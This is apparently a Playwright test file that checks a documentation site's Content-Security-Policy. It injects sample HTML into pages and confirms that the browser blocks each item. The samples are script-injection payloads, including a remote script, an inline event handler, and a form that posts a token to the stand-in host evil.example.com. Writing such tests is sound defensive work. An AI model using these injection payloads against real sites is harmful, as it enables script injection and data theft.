import type {Page} from '@playwright/test';
import {expect, startApplication, test} from './fixtureSiteTest';

const EVIL = 'https://evil.example.com';

/** What someone has brought into the HTML of a page, and the directive that stops each. */
const injected: readonly (readonly [directive: string, html: string])[] = [
  ['base-uri', `<base href="${EVIL}/">`],
  ['script-src-elem', '<script>window.broken = true</script>'],
  ['script-src-elem', `<script src="${EVIL}/x.js"></script>`],
  ['script-src-attr', '<b onfocus="window.broken = true" tabindex="0" id="handler">x</b>'],
  ['img-src', `<img src="${EVIL}/x.png" alt="">`],
  ['frame-src', `<iframe src="${EVIL}/" title="frame"></iframe>`],
  ['style-src-elem', '<style>body { visibility: hidden }</style>'],
  ['style-src-attr', '<b style="position: fixed; inset: 0">x</b>'],
  ['style-src-elem', `<link rel="stylesheet" href="${EVIL}/x.css">`],
  ['media-src', `<video src="${EVIL}/x.mp4"></video>`],
  ['object-src', `<object data="${EVIL}/x"></object>`],
  [
    'form-action',
    `<form action="${EVIL}/" id="form"><input name="t" value="token" aria-label="t"></form>`,
  ],
];

/** Serves pages with all of it, from a host that sends headers or one that can't. */
async function inject(page: Page, hasHeaders: boolean): Promise<void> {
  const html = injected.map(([, each]) => each).join('');
  await page.route('**/*', async (route) => {
    const request = route.request();
    // Frames of services have their own pages.
    const isPage = request.resourceType() === 'document' && request.frame() === page.mainFrame();
    if (!isPage || request.url().startsWith(EVIL)) {
      await route.fallback();
      return;
    }
    const response = await route.fetch();
    const body = (await response.text()).replace(/<body[^>]*>/, (tag) => tag + html);
    await route.fulfill({
      response,
      body,
      ...(hasHeaders ? {} : {headers: {'content-type': 'text/html'}}),
    });
  });
}

for (const hasHeaders of [true, false]) {
  for (const address of [
    '/',
    '/guide/everything.html',
    '/zh/guide/everything.html',
    '/guide/api/fs.html',
    '/search.html',
    '/nope',
  ]) {
    test(`what is injected into ${address} is stopped, ${hasHeaders ? 'with' : 'without'} headers`, async ({
      page,
      complaints,
      outsideHosts,
    }) => {
      await page.addInitScript(() => {
        const store = window as unknown as {stopped: Set<string>};
        store.stopped = new Set();
        document.addEventListener('securitypolicyviolation', ({effectiveDirective}) => {
          store.stopped.add(effectiveDirective);
        });
      });
      await inject(page, hasHeaders);
      await page.goto(address);
      // The page itself works.
      await startApplication(page);
      await expect(page.locator('h1').first()).toBeVisible();
      await page.locator('#handler').focus();
      await page.locator('#form').evaluate((form: HTMLFormElement) => form.submit());
      const directives = [...new Set(injected.map(([directive]) => directive))].toSorted();
      await expect
        .poll(() =>
          page.evaluate(() =>
            [...(window as unknown as {stopped: Set<string>}).stopped].toSorted(),
          ),
        )
        .toEqual(directives);
      // The page of an unknown address starts its application at its own, for a moment.
      await expect(page).toHaveURL((url) => url.pathname === address);
      expect(await page.evaluate(() => document.baseURI)).toBe(page.url());
      expect(await page.evaluate(() => 'broken' in window)).toBe(false);
      expect(outsideHosts).toEqual([]);
      // The browser reports what it stopped; that is what this test is about.
      complaints.length = 0;
    });
  }
}

test('services that are configured are allowed, and named in the policy', async ({page}) => {
  await page.goto('/guide/everything.html');
  const policy = await page
    .locator('meta[http-equiv="Content-Security-Policy"]')
    .getAttribute('content');
  expect(policy).toMatch(
    /script-src 'self' https:\/\/count\.example\.com https:\/\/ads\.example\.com /,
  );
  expect(policy).toContain('https://fixtureapp-dsn.algolia.net');
  expect(policy).toMatch(/frame-src [^;]*https:\/\/giscus\.app/);
  expect(policy).not.toMatch(/script-src[^;]*unsafe/);
});
